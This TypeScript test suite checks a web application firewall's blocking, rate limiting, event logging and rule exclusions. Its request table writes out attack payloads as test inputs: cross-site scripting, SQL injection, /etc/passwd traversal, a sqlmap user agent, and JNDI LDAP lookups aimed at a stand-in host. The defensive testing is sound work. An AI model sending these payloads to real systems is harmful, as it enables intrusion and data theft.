import assert from "node:assert/strict";
import { describe, test } from "node:test";
import { builtinRules } from "@holdfast/waf/core";
import type { Dialect } from "../../src/edge/index.ts";
import { createFirewall, HASH_KEY_BYTES, type Inspection } from "../../src/firewall/index.ts";
import { createInspection } from "../../src/firewall/inspection.ts";
import { formatId, isFault } from "../../src/kit/index.ts";
import { DEFAULT_LIMITS } from "../../src/model/limits.ts";
import type { RequestRules } from "../../src/model/plan.ts";
import { checkRequestRules } from "../../src/wiring/request-rules.ts";
import { converse, PLAN_LIMITS, statuses, testEdge } from "./fixture.ts";

const ACCOUNT = new Uint8Array(16).fill(7);
const route = { method: "GET", needs: "public", body: "none", reads: false, handle: async () => ({ status: 200, body: "{}" }) } as const;
const DECLARED: Dialect = {
  prefix: "/data",
  values: "declared",
  routes: [{ ...route, name: "data.read", path: "/data/:name" }],
  words: ({ code }) => JSON.stringify({ code }),
};
const FREE: Dialect = { ...DECLARED, prefix: "/pages" };
const FREE_ROUTES: Dialect = {
  prefix: "/pages",
  routes: [{ ...route, name: "pages", path: "/pages/:name" }],
  words: FREE.words,
};

function rules(plan: Partial<RequestRules> = {}): Inspection {
  return createInspection({
    rules: builtinRules(),
    plan: { mode: "on", paranoia: 1, exclusions: [], ...plan },
    now: Date.now,
    newId: () => crypto.getRandomValues(new Uint8Array(16)),
  });
}

const asked = (target: string, more = ""): string => `GET ${target} HTTP/1.1\r\nHost: localhost\r\n${more}\r\n`;
const SCRIPT = "?q=%3Cscript%3Ealert(1)%3C/script%3E";

/** Passes, and makes every rule on cookies look closer. */
const DEAR = `Cookie: c=${"1,2,3,4,".repeat(1_800)}\r\n`;

/** What is sent, and how it is answered where the route declares its values and where it does not. */
const REQUESTS: readonly (readonly [what: string, target: string, header: string, declared: number, free: number])[] = [
  [
    "an ordinary request",
    "/x",
    "User-Agent: Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101\r\nAccept-Language: ko-KR,ko;q=0.9\r\n",
    200,
    200,
  ],
  ["an ordinary question", "/x?q=what+is+a+table%3F", "", 200, 200],
  ["script in a value", `/x${SCRIPT}`, "", 200, 403],
  ["SQL in a value", "/x?id=1%27%20OR%201=1--%20", "", 200, 403],
  ["a file of the system in a value", "/x?file=../../../../etc/passwd", "", 200, 403],
  ["a scanner", "/x", "User-Agent: sqlmap/1.7.2#stable (https://sqlmap.org)\r\n", 403, 403],
  ["a lookup in a header", "/x", `X-Api-Version: \${jndi:ldap://a.example/x}\r\n`, 403, 403],
  ["a lookup in place of a token", "/x", `Authorization: \${jndi:ldap://a.example/x}\r\n`, 403, 403],
  ["a lookup in place of a type", "/x", `Content-Type: \${jndi:ldap://a.example/x}\r\n`, 403, 403],
  ["more cookies than any site has", "/x", `Cookie: ${Array.from({ length: 101 }, (_, n) => `c${n}=1`).join("; ")}\r\n`, 403, 403],
  ["script in the address of the page before", "/x", "Referer: https://a.example/?a=<script>alert(document.cookie)</script>\r\n", 403, 403],
];

describe("Holdfast, with the firewall's rules,", { concurrency: 4 }, () => {
  for (const [what, target, header, declared, free] of REQUESTS) {
    test(`answers ${what} with ${free}, and with ${declared} where values are data`, async () => {
      const inspection = rules();
      await using served = await testEdge({ dialects: [DECLARED, FREE_ROUTES], needs: { inspection: () => inspection } });
      // Twice, since what was clean is remembered.
      for (let round = 0; round < 2; round += 1) {
        const heard = await converse(served.edge.port, asked(`/data${target}`, header) + asked(`/pages${target}`, header), 300);
        assert.deepEqual(statuses(heard), [declared, free], heard);
      }
      const blocked = served.events.filter(({ kind }) => kind === "request.blocked").length;
      assert.equal(blocked, 2 * [declared, free].filter((status) => status === 403).length);
    });
  }

  test("looks at addresses that lead nowhere, too", async () => {
    const inspection = rules();
    await using served = await testEdge({ needs: { inspection: () => inspection } });
    assert.deepEqual(statuses(await converse(served.edge.port, asked("/nowhere") + asked(`/nowhere${SCRIPT}`), 300)), [404, 403]);
  });

  test("records who was blocked, for what and where, and says no more than a quotable id", async () => {
    const inspection = rules();
    const whoIs = async () => ({ kind: "account", id: ACCOUNT, sessionId: ACCOUNT, roles: [], aal: 1 }) as never;
    await using served = await testEdge({ dialects: [FREE_ROUTES], whoIs, needs: { inspection: () => inspection } });
    const heard = await converse(served.edge.port, asked(`/pages/x${SCRIPT}`, "Authorization: Bearer a.b.c\r\n"), 300);
    const [event, ...more] = served.events.filter(({ kind }) => kind === "request.blocked");
    assert.ok(event?.kind === "request.blocked" && more.length === 0);
    const { rule, route: where, score, account, act, request } = event;
    assert.deepEqual([where, account.value, act], ["pages", formatId(ACCOUNT), "block"]);
    assert.match(rule, /^\d+(,\d+)*$/);
    assert.ok(score >= 5, String(score));
    assert.equal(/x-request-id: (\S+)/.exec(heard)?.[1], request);
    assert.match(heard, /\{"code":"firewall.refused"\}$/);
    assert.ok(!heard.includes(rule.split(",")[0] ?? rule));
  });

  test("names the limit that says no to whoever is blocked again and again, in its answer and in the trail", async () => {
    const inspection = rules();
    const firewall = createFirewall({
      clock: { elapsed: () => 0 },
      plan: { limits: PLAN_LIMITS, networks: { allow: [], deny: [], trustedProxies: [] } },
      hashKey: new Uint8Array(HASH_KEY_BYTES),
    });
    await using served = await testEdge({ dialects: [FREE_ROUTES], needs: { inspection: () => inspection, firewall } });
    const heard = await converse(served.edge.port, asked(`/pages/x${SCRIPT}`).repeat(300) + asked("/pages/x"), 1_000);
    assert.deepEqual(new Set(statuses(heard).slice(0, 300)), new Set([403]));
    const last = heard.slice(heard.lastIndexOf("HTTP/1.1 "));
    assert.match(last, /^HTTP\/1\.1 429 /);
    assert.match(last, /\r\nretry-after: 1\r\n/);
    assert.match(last, /\r\nratelimit-policy: "blockedPerAddress";q=300\r\nratelimit: "blockedPerAddress";r=0;t=1\r\n/);
    const refused = served.events.filter((event) => event.kind === "request.refused");
    assert.deepEqual(
      refused.map(({ rule, status }) => [rule, status]),
      [["blockedPerAddress", 429]],
    );
  });

  test("lets no address keep the rules busy with the dearest requests that they let pass, while others are served", async () => {
    const inspection = rules();
    const limits = { ...PLAN_LIMITS, inspectionKilostepsPerAddress: DEFAULT_LIMITS.inspectionKilostepsPerAddress };
    const plan = { limits, networks: { allow: [], deny: [], trustedProxies: ["127.0.0.1"] } };
    const firewall = createFirewall({ clock: { elapsed: () => 0 }, plan, hashKey: new Uint8Array(HASH_KEY_BYTES) });
    await using served = await testEdge({
      dialects: [DECLARED],
      trustedProxies: plan.networks.trustedProxies,
      needs: { inspection: () => inspection, firewall },
    });
    const dear = asked("/data/x", `X-Forwarded-For: 192.0.2.1\r\n${DEAR}`);
    let heard = "";
    for (let time = 0; time < 100 && !heard.includes(" 429 "); time += 1) heard = await converse(served.edge.port, dear.repeat(8), 300);
    assert.match(heard, /\r\nratelimit: "inspectionKilostepsPerAddress";r=0;t=\d+\r\n/);
    assert.ok(served.events.some((event) => event.kind === "request.refused" && event.rule === "inspectionKilostepsPerAddress"));
    const others = await converse(served.edge.port, asked("/data/x", "X-Forwarded-For: 198.51.100.1\r\n"), 300);
    assert.deepEqual(statuses(others), [200]);
  });

  test("charges nothing for a head in which it has found nothing before", () => {
    const inspection = rules();
    const text = { method: "GET", target: "/x", host: "localhost", headers: new Map(), address: "192.0.2.1", values: "declared" } as const;
    const steps: number[] = [];
    for (let round = 0; round < 3; round += 1)
      assert.equal(
        inspection.inspect(text, (spent) => steps.push(spent)),
        undefined,
      );
    assert.ok(steps.length === 1 && (steps[0] ?? 0) > 0, JSON.stringify(steps));
  });

  test("says what cannot be meant before it serves", async () => {
    const exclusion = { rules: "tag:attack-xss", route: undefined, reason: "a course", owner: "Kim", expiresAt: Date.now() + 60_000 };
    const plan = (more: Partial<RequestRules>) => ({
      firewall: { mode: "on", paranoia: 1, rules: undefined, setup: undefined, exclusions: [], ...more } as const,
    });
    await checkRequestRules(plan({}));
    const wrong: readonly (readonly [Partial<RequestRules>, RegExp])[] = [
      [{ exclusions: [{ ...exclusion, target: "ARGZ:foo" }] }, /ARGZ/],
      [{ exclusions: [{ ...exclusion, target: undefined, rules: "tag:nobody-has-it" }] }, /tag:nobody-has-it/],
      [{ rules: "file:///nowhere/at/all" }, /nowhere/],
    ];
    for (const [more, words] of wrong)
      await assert.rejects(checkRequestRules(plan(more)), (error) => isFault(error, "plan.invalid") && words.test(error.message));
  });

  test("only records what it would have blocked, where that is asked for", async () => {
    const inspection = rules({ mode: "detection-only" });
    await using served = await testEdge({ dialects: [FREE_ROUTES], needs: { inspection: () => inspection } });
    assert.deepEqual(statuses(await converse(served.edge.port, asked(`/pages/x${SCRIPT}`), 300)), [200]);
    assert.deepEqual(
      served.events.flatMap((event) => (event.kind === "request.blocked" ? [event.act] : [])),
      ["let through"],
    );
  });

  test("leaves out rules where somebody has said why, for as long as they said", async () => {
    const exclusion = { rules: "tag:attack-xss", route: "/pages/x", target: undefined, reason: "a course on HTML", owner: "Kim" };
    for (const [expiresAt, status] of [
      [Date.now() + 60_000, 200],
      [Date.now() - 60_000, 403],
    ] as const) {
      const inspection = rules({ exclusions: [{ ...exclusion, expiresAt }] });
      await using served = await testEdge({ dialects: [FREE_ROUTES], needs: { inspection: () => inspection } });
      const heard = await converse(served.edge.port, asked(`/pages/x${SCRIPT}`) + asked(`/pages/y${SCRIPT}`), 300);
      assert.deepEqual(statuses(heard), [status, 403], heard);
    }
  });

  test("lets requests wait until the rules are there, and answers nobody where they cannot be loaded", async () => {
    const loading = Promise.withResolvers<Inspection>();
    await using served = await testEdge({ dialects: [FREE_ROUTES], needs: { inspection: () => loading.promise } });
    const waiting = converse(served.edge.port, asked(`/pages/x${SCRIPT}`), 600);
    setTimeout(() => loading.resolve(rules()), 100);
    assert.deepEqual(statuses(await waiting), [403]);
    await using broken = await testEdge({ dialects: [FREE_ROUTES], needs: { inspection: () => Promise.reject(new Error("no rules")) } });
    assert.deepEqual(statuses(await converse(broken.edge.port, asked("/pages/x"), 300)), [500]);
  });
});
